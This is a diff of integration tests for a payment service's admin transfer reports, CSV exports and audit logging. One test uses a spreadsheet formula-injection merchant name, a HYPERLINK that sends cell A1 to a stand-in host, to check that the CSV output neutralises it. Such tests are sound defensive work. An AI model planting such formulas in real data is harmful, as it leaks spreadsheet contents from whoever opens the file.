@@ -28,7 +28,13 @@ from tests.integration.helpers import (
     merchant_call,
     scan,
 )
-from tests.integration.report_history import History, history, new_sender, send
+from tests.integration.report_history import (
+    History,
+    history,
+    new_sender,
+    send,
+    wait_next_second,
+)
 
 __all__ = ["history"]  # the module-scoped fixture
 
@@ -288,6 +294,95 @@ def test_large_transfer_report_lists_single_and_per_sender_day_totals(stack: Loc
     # and above 60 nothing of ours is listed
     higher = admin_call("GET", f"/admin/reports/large_transfers?from={start}&to={end}&threshold=61")
     assert [r for r in higher.body["data"] if r["sender"] in ours] == []
+
+
+FORMULA_NAME = '=HYPERLINK("http://x/?"&A1,"click")'
+
+
+def test_a_sender_day_total_is_the_whole_utc_day_and_names_are_defused(stack: LocalStack) -> None:
+    # Given a merchant whose name is a formula, and a sender paying it 30 then, a second
+    # later, 25 (the same UTC day)
+    shop, _, _ = merchants.create_merchant(FORMULA_NAME)
+    splitter = new_sender(stack)
+    start = int(time.time())
+    for usdt in ("30", "25"):
+        payment = _payment_for(shop.merchant_id, usdt)
+        send(stack, splitter.key, payment["address"], int(Decimal(usdt) * USDT))
+        make_final(stack)
+        scan()
+        wait_next_second()
+    end = int(time.time()) + 1
+    ours = splitter.address.lower()
+    both = admin_call("GET", f"/admin/reports/large_transfers?from={start}&to={end}&threshold=50")
+    rows = [r for r in both.body["data"] if r["sender"] == ours]
+    assert sorted(r["amount"] for r in rows) == ["25", "30"], both.body
+    first, second = sorted(rows, key=lambda r: r["seen_at"])
+    assert first["seen_at"] < second["seen_at"]
+    if first["day"] != second["day"]:
+        pytest.skip("the two transfers straddle midnight UTC")
+
+    # When compliance asks for a period starting between them (unix seconds mid-day)
+    query = f"from={second['seen_at']}&to={end}&threshold=50"
+    reply = admin_call("GET", f"/admin/reports/large_transfers?{query}")
+
+    # Then the 25 is listed with the whole day's total, the 30 before `from` included
+    assert reply.status == 200, reply.body
+    (row,) = [r for r in reply.body["data"] if r["sender"] == ours]
+    assert (row["amount"], row["reason"]) == ("25", "daily_total")
+    assert (row["sender_day_total"], row["sender_day_count"]) == ("55", 2)
+    assert row["merchant_name"] == FORMULA_NAME  # JSON is not a spreadsheet
+
+    # and the CSV cannot run the merchant's name as a formula
+    as_csv = admin_call("GET", f"/admin/reports/large_transfers?{query}&format=csv")
+    (csv_row,) = [r for r in rows_of(as_csv.body) if r["sender"] == ours]
+    assert csv_row["merchant_name"] == "'" + FORMULA_NAME
+    month = time.strftime("%Y-%m", time.gmtime(start))
+    monthly = admin_call("GET", f"/admin/reports/monthly?month={month}&format=csv")
+    assert monthly.status == 200, monthly.body
+    (mine,) = [r for r in rows_of(monthly.body) if r["merchant_id"] == shop.merchant_id]
+    assert mine["merchant_name"] == "'" + FORMULA_NAME
+
+
+def test_the_large_transfer_report_checks_its_deadline_while_skipping(
+    stack: LocalStack, history: History, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Given a budget nobody can meet and a threshold no transfer reaches (no row out)
+    monkeypatch.setenv("BSCPAY_EXPORT_MAX_SECONDS", "0.000001")
+    config.reset()
+    query = f"from={history.start}&to={history.end}&threshold=1000000000"
+    try:
+        for fmt in ("json", "csv"):
+            reply = admin_call("GET", f"/admin/reports/large_transfers?{query}&format={fmt}")
+            # Then a clear 422 asking for a shorter period, not a gateway timeout
+            assert reply.status == 422, reply.body
+            assert reply.error["code"] == "report_too_large"
+    finally:
+        monkeypatch.undo()
+        config.reset()
+
+
+def test_admin_exports_and_reports_are_audited(stack: LocalStack, history: History) -> None:
+    mid = history.merchant.merchant_id
+    query = f"from={history.start}&to={history.end}"
+    assert admin_call("GET", f"/admin/exports/payments.csv?merchant_id={mid}&{query}").status == 200
+    assert admin_call("GET", f"/admin/exports/refunds.csv?{query}").status == 200
+    assert admin_call("GET", f"/admin/reports/large_transfers?{query}").status == 200
+
+    def records(kind: str) -> list[dict[str, Any]]:
+        path = f"/admin/audit?target=export:{kind}&action=export.created"
+        found = admin_call("GET", path)
+        assert found.status == 200, found.body
+        return [r["after"] for r in found.body["data"]]
+
+    payments = [a for a in records("payments") if a["merchant_id"] == mid]
+    assert payments and payments[0]["rows"] == 3 and payments[0]["delivery"] == "inline"
+    assert (payments[0]["from"], payments[0]["to"]) == (history.start, history.end)
+    assert any(a["merchant_id"] is None for a in records("refunds"))  # every merchant's
+    assert any(a["delivery"] == "json" for a in records("large_transfers"))
+    # a merchant's own export is not an admin's: no record names it
+    before = len(records("settlements"))
+    assert export(history, "settlements").status == 200
+    assert len(records("settlements")) == before
 
 
 def _payment_for(merchant_id: str, usdt: str) -> dict[str, Any]:
